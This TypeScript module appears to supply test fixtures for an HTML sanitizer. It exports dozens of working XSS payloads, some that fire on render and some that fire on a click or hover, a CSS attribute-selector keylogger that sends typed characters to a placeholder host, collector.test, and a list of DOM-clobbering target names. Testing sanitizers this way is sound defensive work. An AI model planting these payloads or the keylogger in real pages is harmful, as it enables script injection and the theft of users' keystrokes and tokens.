import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

const CORPORA = join(__dirname, '../../../shared/data/corpora')

function corpus<T>(name: string): T[] {
  const file = join(CORPORA, name)
  return existsSync(file) ? (JSON.parse(readFileSync(file, 'utf8')) as T[]) : []
}

/** Markup for known vulnerabilities of sanitizers. */
export const sanitiserCorpus = corpus<{ payload: string }>('dompurify-expect.json').map(({ payload }) => payload)
/** Strings that break naive programs. */
export const naughtyStrings = corpus<string>('blns.json')

/** Each runs by itself in a page that renders it unsanitized. */
export const ownAttacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>a</summary></details>',
  '<video><source onerror=alert(1) src=x></video>',
  '<audio src=x onerror=alert(1)>',
  '<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart=alert(1)>a</p>',
  '<object data="javascript:parent.alert(1)"></object><img src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"><img src=x onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<header><nav><img src=x onerror=alert(1)></nav>',
  '<div data-live="tabs"><img src=x onerror=alert(1)></div>',
  '<form id=f><input name=attributes><img src=x onerror=alert(1)></form>',
  '<div data-gjs-type=x contenteditable onfocus=alert(1) tabindex=0 autofocus>a</div>',
  '<p title="{{store.name}}"><img src=x onerror="alert(1)">',
  '<template><script>alert(1)</script></template><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<select><template></select><img src=x onerror=alert(1)>',
  '<a href="x" onmouseover=alert(1)><img src=x onerror=alert(1)></a>',
  '<x-tag onclick=alert(1)><img src=x onerror=alert(1)></x-tag>',
  '<body onload=alert(1)>',
  '<style>a{}</style><img src="x` `"onerror=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<marquee onstart=alert(1)>a</marquee>',
]

/** Wait for a click or a hover in a page that renders them unsanitized. */
export const armedAttacks = [
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" java&#x0A;script:alert(1)">a</a>',
  '<a href="&#1;javascript:alert(1)">a</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>a</text></a></svg>',
  '<form action="javascript:alert(1)"><button>a</button></form>',
  '<button formaction="javascript:alert(1)" onclick="alert(1)">a</button>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<p onmouseover=alert(1)>a</p>',
  '<area href="vbscript:x" shape=default>',
]

const KEYS = 'abcdefghijklmnopqrstuvwxyz'
/** Reports every key typed into a field whose value an attribute mirrors. */
export const keyLogger = `<style>@import url(https://collector.test/import);
@font-face{font-family:f;src:url(https://collector.test/font)}
${[...KEYS].map((key) => `input[value$="${key}"]{background:url(https://collector.test/${key})}`).join('')}
${[...KEYS].map((key) => `body input[value*="${key}"]{--x:url(https://collector.test/v${key});background-image:var(--x)}`).join('')}
html:has(input[value^="a"]){list-style:u\\72l(https://collector.test/escaped)}
input{border-image:image-set("https://collector.test/set" 1x);font-family:f}</style><p style="background:url(https://collector.test/inline)">a</p>`

/** Names that scripts of a page or of Next read from `window` and `document`. */
export const clobberedNames =
  'cart coupon token customerToken self parent top location localStorage sessionStorage fetch document cookie body head forms title getElementById querySelector createElement next __next __next_f __NEXT_DATA__ React ReactDOM process require module define webpackChunk webpackChunk_N_E TURBOPACK history navigator navigation name status origin currentScript documentElement implementation'.split(
    ' ',
  )
